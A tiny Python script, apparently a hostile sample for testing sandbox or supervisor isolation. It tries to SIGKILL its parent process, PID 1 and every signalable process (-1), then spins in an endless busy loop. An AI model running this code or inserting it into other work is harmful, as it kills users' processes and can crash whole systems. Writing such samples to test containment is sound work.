import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as exc:
        print("hostile: kill", target, exc)
while True:
    pass
